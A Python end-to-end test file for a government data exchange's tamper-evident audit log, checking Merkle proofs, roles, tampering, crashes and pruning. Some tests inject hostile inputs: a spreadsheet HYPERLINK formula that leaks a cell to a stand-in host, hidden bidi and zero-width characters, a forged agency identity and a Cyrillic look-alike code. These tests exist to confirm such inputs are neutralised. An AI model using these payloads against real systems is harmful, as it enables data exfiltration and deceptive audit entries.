"""End-to-end tests of the audit log: proofs and tree heads checked by an
independent RFC 6962 verifier (tests/e2e/rfc6962.py, hashlib only) and by
the openssl CLI; search, subject reports, export bundles, roles; tampering,
kill -9 under load, and a full disk. Real processes over loopback mTLS."""
import base64
import csv
import glob
import io
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time
import unittest

REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
BUILD = os.environ.get("DX_BUILD_DIR", os.path.join(REPO, "build"))
sys.path.insert(0, REPO)
sys.path.insert(0, os.path.join(BUILD, "python"))
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import grpc  # noqa: E402
import rfc6962  # noqa: E402
from dx.v1 import audit_pb2, audit_pb2_grpc  # noqa: E402
from tests.harness import DevEnv  # noqa: E402

H30, H29 = "000.00.00.H30", "000.00.00.H29"
CITIZEN = "001000000000"
CRASH_CYCLES = int(os.environ.get("DX_CRASH_CYCLES", "2"))


def rss_kib(pid):
    with open(f"/proc/{pid}/status") as f:
        return next(int(x.split()[1]) for x in f if x.startswith("VmRSS:"))


def receipt_of(stdout):
    m = re.search(r"audit record: #(\d+) leaf ([0-9a-f]{64})", stdout)
    return (int(m.group(1)), m.group(2)) if m else None


def b64(s):
    return base64.b64decode(s) if s else b""


class AuditEnv:
    """Helpers shared by the test classes."""

    @staticmethod
    def channel(env, person="auditor1"):
        def read(p):
            with open(os.path.join(env.pki, p), "rb") as f:
                return f.read()
        who = f"people/{person}" if not person.startswith("000.") else f"agencies/{person}"
        creds = grpc.ssl_channel_credentials(read("root-ca.pem"), read(f"{who}/tls.key"),
                                             read(f"{who}/tls.pem"))
        return grpc.secure_channel(env.gateway, creds)

    @staticmethod
    def wait_tree_head(env, size, timeout=20):
        deadline = time.time() + timeout
        with AuditEnv.channel(env) as ch:
            stub = audit_pb2_grpc.AuditStub(ch)
            while time.time() < deadline:
                try:
                    sth = stub.GetTreeHead(audit_pb2.GetTreeHeadRequest(), timeout=5)
                    if sth.tree_size >= size:
                        return sth
                except grpc.RpcError:
                    pass
                time.sleep(0.2)
        raise AssertionError(f"no signed tree head of size >= {size}")


class AuditEndToEndTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.tmp = tempfile.TemporaryDirectory(prefix="dx-audit-")
        cls.env = DevEnv(cls.tmp.name, BUILD, population=2000, business=500).setup().start()
        # Some traffic: allowed, refused, with and without a data subject.
        cls.receipts = []
        for extra in (["--query", f"citizen_id={CITIZEN}", "--subject", CITIZEN],
                      ["--field", "ethnicity", "--subject", CITIZEN],
                      ["--query", "province_code=079", "--max-records", "5"]):
            r = cls.env.call(H30, "hotich", "bca.population", "civil-registration", *extra)
            cls.receipts.append(receipt_of(r.stdout))
        r = cls.env.call(H29, "motcua", "mof.business", "tax-administration", "--max-records", "3")
        cls.receipts.append(receipt_of(r.stdout))

    @classmethod
    def tearDownClass(cls):
        cls.env.close()
        cls.tmp.cleanup()

    def test_tree_head_and_root_match_an_independent_computation(self):
        size = max(s for s, _ in self.receipts) + 1
        sth = AuditEnv.wait_tree_head(self.env, size)
        with AuditEnv.channel(self.env) as ch:
            stub = audit_pb2_grpc.AuditStub(ch)
            records = list(stub.ReadRecords(audit_pb2.ReadRecordsRequest(
                from_sequence=0, limit=sth.tree_size), timeout=10))
        self.assertEqual([r.sequence_number for r in records], list(range(sth.tree_size)))
        leaves = [rfc6962.leaf_hash(r.record_bytes) for r in records]
        self.assertEqual(rfc6962.root(leaves), sth.root_hash)
        self.assertEqual(rfc6962.tree_head_signed_bytes(sth.timestamp_ms, sth.tree_size,
                                                        sth.root_hash), sth.signed_bytes)
        # Receipts in signed answers are the leaves of the tree.
        for seq, leaf_hex in self.receipts:
            self.assertEqual(leaves[seq].hex(), leaf_hex)
        # The openssl CLI checks the tree head's signature.
        with tempfile.TemporaryDirectory() as d:
            r = self.env.auditor("sth", "--size", str(sth.tree_size), "--save-dir", d)
            self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
            v = subprocess.run(["openssl", "dgst", "-sha256", "-verify", f"{d}/log.pub.pem",
                                "-signature", f"{d}/sth.sig.der", f"{d}/sth.bin"],
                               capture_output=True, text=True)
            self.assertEqual(v.stdout.strip(), "Verified OK", v.stderr)

    def test_agency_proves_its_receipt_independently(self):
        seq, leaf_hex = self.receipts[0]
        AuditEnv.wait_tree_head(self.env, seq + 1)
        r = self.env.dxctl("audit", "proof", str(seq), "--json", "--gateway", self.env.gateway,
                           "--pki", self.env.pki, "--agency", H30)
        self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
        proof = json.loads(r.stdout.splitlines()[0])
        path = [b64(p) for p in proof.get("path", [])]
        self.assertEqual(b64(proof["leaf_hash"]).hex(), leaf_hex)
        self.assertTrue(rfc6962.verify_inclusion(
            int(proof.get("leaf_index", 0)), int(proof["tree_size"]), b64(proof["leaf_hash"]),
            path, b64(proof["tree_head"]["root_hash"])))
        # Another agency may not ask for it.
        r = self.env.dxctl("audit", "proof", str(seq), "--gateway", self.env.gateway,
                           "--pki", self.env.pki, "--agency", H29)
        self.assertNotEqual(r.returncode, 0)
        self.assertIn("own exchanges", r.stderr)

    def test_consistency_between_tree_heads_checks_out_independently(self):
        first = AuditEnv.wait_tree_head(self.env, 1)
        for _ in range(3):
            self.env.call(H30, "hotich", "bca.population", "civil-registration", "--quiet")
        second = AuditEnv.wait_tree_head(self.env, first.tree_size + 3)
        r = self.env.auditor("consistency", str(first.tree_size), str(second.tree_size), "--json")
        self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
        proof = json.loads(r.stdout.splitlines()[0])
        self.assertTrue(rfc6962.verify_consistency(
            first.tree_size, second.tree_size, first.root_hash, second.root_hash,
            [b64(p) for p in proof.get("path", [])]))

    def test_query_formats_and_filters(self):
        r = self.env.auditor("query", "--consumer", H30, "--since", "1h", "--format", "jsonl")
        self.assertEqual(r.returncode, 0, r.stderr)
        rows = [json.loads(line) for line in r.stdout.splitlines()]
        self.assertGreaterEqual(len(rows), 3)
        self.assertTrue(all(x["consumer_agency"] == H30 for x in rows))
        r = self.env.auditor("query", "--decision", "deny", "--format", "csv")
        lines = r.stdout.splitlines()
        self.assertTrue(lines[0].startswith("seq,time_utc,kind,decision"))
        self.assertTrue(all(",DENY," in line for line in lines[1:]), r.stdout)
        self.assertGreaterEqual(len(lines), 2)
        r = self.env.auditor("query", "--dataset", "mof.business")
        self.assertIn("000.00.00.H29/motcua -> mof.business", r.stdout)
        self.assertNotIn("bca.population", r.stdout)
        r = self.env.auditor("query", "--until", "2000-01-01")
        self.assertEqual(r.stdout.strip(), "")

    def test_subject_report_and_no_clear_subject_on_disk(self):
        r = self.env.auditor("subject-report", "--subject", CITIZEN, "--format", "jsonl")
        self.assertEqual(r.returncode, 0, r.stderr)
        rows = [json.loads(line) for line in r.stdout.splitlines()]
        self.assertEqual(len(rows), 2)
        self.assertEqual({x["decision"] for x in rows}, {"DECISION_ALLOW", "DECISION_DENY"})
        self.assertEqual(rows[0]["purpose_code"], "civil-registration")
        self.assertIn("full_name", rows[0]["returned_fields"])
        # The report itself is an admin record (who looked at whose accesses).
        admin = self.env.auditor("query", "--format", "jsonl", "--limit", "10000")
        self.assertIn("audit.subject-report", admin.stdout)
        # The id is stored only as a keyed hash: not in any file of the log.
        for path in glob.glob(os.path.join(self.env.data_dir, "state", "*")):
            with open(path, "rb") as f:
                self.assertNotIn(CITIZEN.encode(), f.read(), path)

    def test_subject_report_separates_a_forged_attempt_from_accesses(self):
        """A request signed and sent by H30, its envelope naming H29 and a
        citizen, with a purpose that hides characters: an unverified attempt
        in every view, never an access by H29 (issue 24, item 4)."""
        subject, purpose = "001000000077", "civil-registration\u202e\u200bxim"
        r = self.env.call(H29, "motcua", "bca.population", purpose, "--query",
                          f"citizen_id={subject}", "--subject", subject, pki_agency=H30)
        self.assertNotEqual(r.returncode, 0, r.stdout)
        self.assertIn("IDENTITY_MISMATCH", r.stdout + r.stderr)
        r = self.env.call(H30, "hotich", "bca.population", "civil-registration", "--query",
                          f"citizen_id={subject}", "--subject", subject)
        self.assertEqual(r.returncode, 0, r.stdout + r.stderr)

        # The table: two sections, the claim marked, hidden characters named.
        r = self.env.auditor("subject-report", "--subject", subject)
        self.assertEqual(r.returncode, 0, r.stderr)
        verified, claims = r.stdout.split("Attempts that named this person, NOT verified")
        self.assertIn(f"{H30}/hotich -> bca.population", verified)
        self.assertNotIn(H29, verified)
        self.assertIn(f"claimed to be {H29}/motcua, not verified -> bca.population", claims)
        self.assertIn("claimed purpose=civil-registration<U+202E><U+200B>xim", claims)
        self.assertIn(f"TLS certificate names {H30}", claims)  # who really sent it
        self.assertNotIn("\u202e", r.stdout)
        self.assertNotIn("\u200b", r.stdout)
        self.assertIn("1 access(es) to data about this person, 0 refused or failed request(s) "
                      "by verified agencies, 1 unverified attempt(s)", r.stdout)

        # JSON Lines: the exact strings, and the attribution of each record.
        r = self.env.auditor("subject-report", "--subject", subject, "--format", "jsonl")
        rows = [json.loads(line) for line in r.stdout.splitlines()]
        by = {x["attribution"]: x for x in rows}
        self.assertEqual(len(rows), 2)
        self.assertEqual(by["ATTRIBUTION_CLAIMED"]["consumer_agency"], H29)
        self.assertEqual(by["ATTRIBUTION_CLAIMED"]["purpose_code"], purpose)
        self.assertEqual(by["ATTRIBUTION_VERIFIED"]["consumer_agency"], H30)
        # CSV: a last column says which.
        r = self.env.auditor("subject-report", "--subject", subject, "--format", "csv")
        lines = r.stdout.splitlines()
        self.assertTrue(lines[0].endswith(",identity"), lines[0])
        self.assertEqual(sorted(line.rsplit(",", 1)[1] for line in lines[1:]),
                         ["claimed", "verified"])

        # The gRPC answer says it itself, so that no client has to work it out.
        with AuditEnv.channel(self.env) as ch:
            got = list(audit_pb2_grpc.AuditStub(ch).SubjectReport(
                audit_pb2.SubjectReportRequest(data_subject_id=subject), timeout=10))
        self.assertEqual(sorted((s.record.consumer_agency, s.attribution) for s in got),
                         [(H29, audit_pb2.ATTRIBUTION_CLAIMED),
                          (H30, audit_pb2.ATTRIBUTION_VERIFIED)])

        # The search by consumer H29 marks it; the record says so.
        r = self.env.auditor("query", "--consumer", H29, "--decision", "deny")
        forged = [line for line in r.stdout.splitlines() if "bca.population" in line]
        self.assertEqual(len(forged), 1, r.stdout)
        self.assertIn(f"claimed to be {H29}/motcua, not verified", forged[0])
        seq = int(forged[0].split()[0].lstrip("#"))
        r = self.env.auditor("get", str(seq))
        self.assertIn("identity NOT VERIFIED", r.stdout)
        self.assertIn("<U+202E><U+200B>xim", r.stdout)
        self.assertNotIn("\u202e", r.stdout)
        r = self.env.auditor("get", str(seq), "--json")
        self.assertEqual(json.loads(r.stdout)["attribution"], "ATTRIBUTION_CLAIMED")
        self.assertEqual(json.loads(r.stdout)["record"]["purpose_code"], purpose)
        # A purpose a spreadsheet would run as a formula is exported as text.
        formula = '=HYPERLINK("http://x.invalid/?"&A1,"open")'
        r = self.env.call(H29, "motcua", "bca.population", formula, "--query",
                          f"citizen_id={subject}", "--subject", subject, pki_agency=H30)
        self.assertNotEqual(r.returncode, 0, r.stdout)
        r = self.env.auditor("subject-report", "--subject", subject, "--format", "csv")
        cells = [row[6] for row in csv.reader(io.StringIO(r.stdout))]
        self.assertIn("'" + formula, cells)
        self.assertNotIn(formula, cells)
        r = self.env.auditor("subject-report", "--subject", subject, "--format", "jsonl")
        self.assertIn(formula, [json.loads(line)["purpose_code"] for line in r.stdout.splitlines()])

    def test_a_look_alike_agency_code_is_named_not_shown_as_the_agency(self):
        """H30 signs a request whose envelope claims "000.00.00.Н30" (a
        Cyrillic Н): refused, and every dxctl view names the letter
        (<U+041D>), so the claim never reads as H30 itself."""
        look_alike = "000.00.00.\u041d30"
        r = self.env.call(look_alike, "hotich", "bca.population", "civil-registration",
                          "--query", "citizen_id=001000000078", pki_agency=H30)
        self.assertNotEqual(r.returncode, 0, r.stdout)
        r = self.env.auditor("query", "--consumer", look_alike, "--decision", "deny")
        self.assertEqual(r.returncode, 0, r.stderr)
        lines = [x for x in r.stdout.splitlines() if "bca.population" in x]
        self.assertEqual(len(lines), 1, r.stdout)
        self.assertIn("claimed to be 000.00.00.<U+041D>30/hotich, not verified", lines[0])
        self.assertNotIn("\u041d", r.stdout)
        seq = int(lines[0].split()[0].lstrip("#"))
        r = self.env.auditor("get", str(seq))
        self.assertIn('consumer_agency: "000.00.00.<U+041D>30"', r.stdout)
        self.assertNotIn("\u041d", r.stdout)
        # The exact bytes stay in the machine-readable output.
        r = self.env.auditor("get", str(seq), "--json")
        self.assertEqual(json.loads(r.stdout)["record"]["consumer_agency"], look_alike)

    def test_roles(self):
        r = self.env.dxctl("audit", "query", "--gateway", self.env.gateway, "--pki",
                           self.env.pki, "--agency", H30)
        self.assertNotEqual(r.returncode, 0)
        self.assertIn("auditor", r.stderr)
        r = self.env.auditor("query", person="ops1")
        self.assertNotEqual(r.returncode, 0)
        with AuditEnv.channel(self.env) as ch:  # an auditor may not prune
            with self.assertRaises(grpc.RpcError) as err:
                audit_pb2_grpc.AuditStub(ch).Prune(
                    audit_pb2.PruneRequest(before_unix_micros=1, export_sha256=b"x" * 32),
                    timeout=5)
            self.assertEqual(err.exception.code(), grpc.StatusCode.PERMISSION_DENIED)
        # Everyone authenticated may read tree heads.
        r = self.env.dxctl("audit", "sth", "--gateway", self.env.gateway, "--pki",
                           self.env.pki, "--agency", H29)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertIn("signature  OK", r.stdout)
        # Refused callers are audited, naming who tried (authz/ gate).
        refused = [x for x in self.env.audit_records()
                   if x.get("admin_action") == "audit.refused"]
        self.assertIn(f"agency:{H30}", {x["tls_agency"] for x in refused})
        self.assertIn("operator:ops1", {x["tls_agency"] for x in refused})
        self.assertTrue(any("Prune refused: PERMISSION_DENIED" in x.get("message", "")
                            for x in refused))

    def test_mistyped_numbers_are_usage_errors_naming_the_flag(self):
        for args in (["list", "--limit", "ten"], ["proof", "x7"],
                     ["verify", "--from", "-1"], ["sth", "--size", "1e3"]):
            r = self.env.auditor(*args)
            self.assertEqual(r.returncode, 2, (args, r.stdout, r.stderr))
            self.assertRegex(r.stderr, r"(--limit|--from|--size|number)", args)
        r = self.env.auditor("proof", "--limit", "3")  # a flag of another command
        self.assertEqual(r.returncode, 2)
        self.assertIn("unknown flag --limit", r.stderr)

    def test_export_bundle_verifies_offline_and_detects_tampering(self):
        AuditEnv.wait_tree_head(self.env, 4)
        with tempfile.TemporaryDirectory() as d:
            bundle = os.path.join(d, "bundle.pb")
            r = self.env.auditor("export", "--out", bundle, "--from", "0", "--to", "4")
            self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
            self.assertIn("exported 4 records", r.stdout)
            ca = os.path.join(self.env.pki, "root-ca.pem")
            r = self.env.dxctl("audit", "verify-bundle", bundle, "--ca", ca)
            self.assertEqual(r.returncode, 0, r.stdout)
            self.assertIn("VERIFIED  4 records", r.stdout)
            with open(bundle, "rb") as f:
                data = bytearray(f.read())
            # Flip a byte inside a record's stored bytes (its purpose code).
            idx = data.find(b"civil-registration")
            self.assertGreater(idx, 0)
            data[idx] ^= 0x01
            with open(bundle, "wb") as f:
                f.write(bytes(data))
            r = self.env.dxctl("audit", "verify-bundle", bundle, "--ca", ca)
            self.assertEqual(r.returncode, 3, r.stdout)
            self.assertIn("FAILED", r.stdout)
            self.assertRegex(r.stdout, r"record \d+")

    def test_verify_passes_on_the_live_log(self):
        AuditEnv.wait_tree_head(self.env, 2)
        r = self.env.auditor("verify")
        self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
        self.assertIn("VERIFIED", r.stdout)
        self.assertIn("checked against the root", r.stdout)


class AuditFaultTest(unittest.TestCase):
    """Tampering, crashes and a full disk: each with its own gateway."""

    def setUp(self):
        self.tmp = tempfile.TemporaryDirectory(prefix="dx-audit-fault-")
        self.env = DevEnv(self.tmp.name, BUILD, population=2000, business=200).setup()

    def tearDown(self):
        self.env.close()
        self.tmp.cleanup()

    def test_changed_byte_in_rocksdb_is_named_by_verify(self):
        self.env.start()
        for _ in range(6):
            self.env.call(H30, "hotich", "bca.population", "civil-registration", "--quiet")
        self.env.stop_gateway()
        r = subprocess.run([os.path.join(BUILD, "tests", "dx_corrupt_record"),
                            self.env.data_dir, "4"], capture_output=True, text=True)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.env.start_gateway()
        r = self.env.auditor("verify")
        self.assertEqual(r.returncode, 3, r.stdout + r.stderr)
        self.assertIn("record 4", r.stdout)
        # The same verdict offline, from the data folder.
        self.env.stop_gateway()
        r = self.env.dxctl("audit", "verify", "--data-dir", self.env.data_dir,
                           "--pki", self.env.pki)
        self.assertEqual(r.returncode, 3, r.stdout + r.stderr)
        self.assertIn("record 4", r.stdout)

    def test_kill_9_under_load_loses_no_acknowledged_record(self):
        self.env.start()
        saved = tempfile.mkdtemp(prefix="dx-kill9-")
        self.addCleanup(shutil.rmtree, saved, True)
        for cycle in range(CRASH_CYCLES):
            receipts, stop = [], threading.Event()
            # One answered request kept aside: after the crash it must still
            # be refused as a replay (the guard is rebuilt from the log).
            first = self.env.call(H30, "hotich", "bca.population", "civil-registration",
                                  "--quiet", "--query", f"citizen_id={CITIZEN}",
                                  "--save-dir", saved)
            self.assertEqual(first.returncode, 0, first.stdout + first.stderr)

            def load():
                while not stop.is_set():
                    r = self.env.call(H30, "hotich", "bca.population", "civil-registration",
                                      "--quiet", "--query", f"citizen_id={CITIZEN}")
                    if r.returncode == 0:
                        receipts.append(receipt_of(r.stdout))

            threads = [threading.Thread(target=load) for _ in range(4)]
            for t in threads:
                t.start()
            deadline = time.time() + 30
            while len(receipts) < 20 and time.time() < deadline:
                time.sleep(0.05)
            self.env.stop_gateway(signal.SIGKILL)  # mid-load, no warning
            stop.set()
            for t in threads:
                t.join()
            self.assertGreaterEqual(len(receipts), 20, f"cycle {cycle}: too little load")
            self.env.start_gateway()
            with AuditEnv.channel(self.env) as ch:
                stub = audit_pb2_grpc.AuditStub(ch)
                for seq, leaf_hex in receipts:
                    rec = stub.GetRecord(audit_pb2.GetRecordRequest(sequence_number=seq),
                                         timeout=5)
                    self.assertEqual(rec.leaf_hash.hex(), leaf_hex, f"record {seq}")
                    self.assertEqual(rfc6962.leaf_hash(rec.record_bytes).hex(), leaf_hex)
            again = self.env.dxctl("call", "--gateway", self.env.gateway, "--pki",
                                   self.env.pki, "--agency", H30, "--resend",
                                   f"{saved}/request.pb")
            self.assertEqual(again.returncode, 1, again.stdout + again.stderr)
            self.assertIn("reason:       REASON_REPLAY", again.stdout)
            AuditEnv.wait_tree_head(self.env, max(s for s, _ in receipts) + 1)
            r = self.env.auditor("verify")
            self.assertEqual(r.returncode, 0, f"cycle {cycle}: " + r.stdout + r.stderr)

    def test_full_disk_fails_closed_and_recovers(self):
        mount = self.env.data_dir
        os.makedirs(mount, exist_ok=True)
        self.env.gateway_settings = {"audit": "{min_free_mb: 8}"}
        m = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=48m", "tmpfs", mount],
                           capture_output=True, text=True)
        if m.returncode != 0:
            self.skipTest("cannot mount a small tmpfs here: " + m.stderr.strip())
        try:
            self.env.start()
            ok = self.env.call(H30, "hotich", "bca.population", "civil-registration",
                               "--quiet", "--query", f"citizen_id={CITIZEN}")
            self.assertEqual(ok.returncode, 0, ok.stdout)
            before = receipt_of(ok.stdout)
            filler = os.path.join(mount, "filler")
            with open(filler, "wb") as f:
                try:
                    while True:
                        f.write(b"\0" * (1 << 20))
                        f.flush()
                except OSError:
                    pass
            # Calls fail closed, the health check says NOT_SERVING.
            refused = None
            for _ in range(200):
                r = self.env.call(H30, "hotich", "bca.population", "civil-registration",
                                  "--quiet", "--query", f"citizen_id={CITIZEN}")
                if r.returncode != 0:
                    refused = r
                    break
            self.assertIsNotNone(refused, "no call failed with the disk full")
            self.assertIn("REFUSED  UNAVAILABLE", refused.stdout)
            self.assertIn("REASON_AUDIT_UNAVAILABLE", refused.stdout)
            with AuditEnv.channel(self.env, H30) as ch:
                check = ch.unary_unary("/grpc.health.v1.Health/Check")
                # Health and readiness are one gate: the very next check
                # says NOT_SERVING, no poller in between (issue 24).
                self.assertEqual(check(b"", timeout=5), b"\x08\x02")  # NOT_SERVING
                os.remove(filler)
                deadline = time.time() + 30
                while check(b"", timeout=5) != b"\x08\x01" and time.time() < deadline:
                    time.sleep(0.1)
                self.assertEqual(check(b"", timeout=5), b"\x08\x01")  # SERVING again
            again = self.env.call(H30, "hotich", "bca.population", "civil-registration",
                                  "--quiet")
            self.assertEqual(again.returncode, 0, again.stdout)
            with AuditEnv.channel(self.env) as ch:
                rec = audit_pb2_grpc.AuditStub(ch).GetRecord(
                    audit_pb2.GetRecordRequest(sequence_number=before[0]), timeout=5)
                self.assertEqual(rec.leaf_hash.hex(), before[1])
            AuditEnv.wait_tree_head(self.env, receipt_of(again.stdout)[0] + 1)
            r = self.env.auditor("verify")
            self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
        finally:
            self.env.close()
            subprocess.run(["umount", "-l", mount], capture_output=True)


class PruneTest(unittest.TestCase):
    def test_export_then_prune_keeps_the_tree_verifiable(self):
        with tempfile.TemporaryDirectory(prefix="dx-prune-") as tmp:
            env = DevEnv(tmp, BUILD, population=500, business=50,
                         gateway_settings={"audit": "{retention_days: 0}"}).setup()
            try:
                env.start()
                for _ in range(5):
                    env.call(H30, "hotich", "bca.population", "civil-registration", "--quiet")
                time.sleep(0.01)
                cut = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() + 1))
                time.sleep(1.2)
                kept = env.call(H30, "hotich", "bca.population", "civil-registration", "--quiet")
                seq_kept = receipt_of(kept.stdout)[0]
                AuditEnv.wait_tree_head(env, seq_kept + 1)
                bundle = os.path.join(tmp, "old.pb")
                r = env.auditor("prune", "--before", cut, "--out", bundle, person="ops1")
                self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
                self.assertRegex(r.stdout, r"pruned [1-9]\d* records")
                r = env.dxctl("audit", "verify-bundle", bundle, "--ca",
                              os.path.join(env.pki, "root-ca.pem"))
                self.assertEqual(r.returncode, 0, r.stdout)
                # The rest still proves against signed tree heads.
                r = env.dxctl("audit", "proof", str(seq_kept), "--gateway", env.gateway,
                              "--pki", env.pki, "--agency", H30)
                self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
                r = env.auditor("get", "0")
                self.assertNotEqual(r.returncode, 0)
                self.assertIn("pruned", r.stderr)
                r = env.auditor("query", "--format", "jsonl", "--limit", "1000")
                self.assertIn("audit.prune", r.stdout)
            finally:
                env.close()

    def test_kill_9_mid_prune_is_finished_at_restart_and_the_log_verifies(self):
        """A prune of 100,000 year-old records in chunks of 1,000, killed
        with SIGKILL in the middle: the restart finishes it, its records say
        so, nothing younger is touched, and the log verifies."""
        with tempfile.TemporaryDirectory(prefix="dx-prune-kill-") as tmp:
            env = DevEnv(tmp, BUILD, population=50, business=10, gateway_settings={
                "audit": "{prune_chunk_records: 1000, prune_pause_ms: 25}"}).setup()
            try:
                start = int((time.time() - 400 * 86400) * 1e6)  # older than retention
                fill = subprocess.run(
                    [os.path.join(env.build, "bench", "dx_audit_fill"), "--data-dir",
                     env.data_dir, "--node", "gw1", "--records", "100000",
                     "--key", os.path.join(env.pki, "gateway", "sign.key"),
                     "--cert", os.path.join(env.pki, "gateway", "sign.pem"),
                     "--start-micros", str(start)], capture_output=True, text=True)
                self.assertEqual(fill.returncode, 0, fill.stderr)
                env.start()
                kept = env.call(H30, "hotich", "bca.population", "civil-registration",
                                "--quiet")
                self.assertEqual(kept.returncode, 0, kept.stderr)
                seq_kept = receipt_of(kept.stdout)[0]
                AuditEnv.wait_tree_head(env, seq_kept + 1)
                pid = env.procs["gateway"].pid
                rss_before = rss_kib(pid)
                cut = time.strftime("%Y-%m-%dT%H:%M:%SZ",
                                    time.gmtime(start / 1e6 + 200))  # after all filled
                prune = subprocess.Popen(
                    [env.bin("dxctl"), "audit", "prune", "--before", cut, "--out",
                     os.path.join(tmp, "old.pb"), "--gateway", env.gateway, "--pki",
                     env.pki, "--person", "ops1"],
                    stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
                # Once the prune has begun deleting, kill the gateway outright.
                deadline, rss_peak = time.time() + 120, rss_before
                while "prune started" not in env.log("gateway"):
                    self.assertLess(time.time(), deadline, env.log("gateway"))
                    if prune.poll() is not None:
                        self.fail("the prune ended before it began: "
                                  + "".join(prune.communicate()) + env.log("gateway"))
                    rss_peak = max(rss_peak, rss_kib(pid))
                    time.sleep(0.05)
                for _ in range(10):
                    rss_peak = max(rss_peak, rss_kib(pid))
                    time.sleep(0.03)
                env.stop_gateway(signal.SIGKILL)
                prune.communicate(timeout=60)
                self.assertNotEqual(prune.returncode, 0, "the prune was cut short")
                env.start_gateway()
                # It serves at once; the prune finishes in the background.
                deadline = time.time() + 120
                while "finished an interrupted prune" not in env.log("gateway"):
                    self.assertLess(time.time(), deadline, env.log("gateway"))
                    time.sleep(0.1)
                records = env.audit_records()
                actions = [r.get("admin_action") for r in records if r.get("admin_action")]
                self.assertIn("audit.prune-started", actions)
                result = [r for r in records if r.get("admin_action") == "audit.prune"]
                self.assertEqual(len(result), 1, actions)
                self.assertIn("finished after a restart", json.dumps(result[0]))
                # Every filled record is gone; the exchange after them stays.
                seqs = [int(r.get("sequence_number", 0)) for r in records]
                self.assertGreaterEqual(min(seqs), 100000)
                self.assertIn(seq_kept, seqs)
                r = env.auditor("verify")
                self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
                self.assertIn("VERIFIED", r.stdout)
                # A figure, not a timed assertion: the chunked prune's memory
                # (the whole-log batch of before grew with the log).
                print(f"\nprune RSS: {rss_before} KiB before, {rss_peak} KiB peak",
                      file=sys.stderr)
                # Not under AddressSanitizer (make test-asan): its quarantine
                # keeps freed memory (256 MiB by default).
                if "ASAN_OPTIONS" not in os.environ:
                    self.assertLess(rss_peak - rss_before, 256 * 1024)
            finally:
                env.close()


if __name__ == "__main__":
    unittest.main()
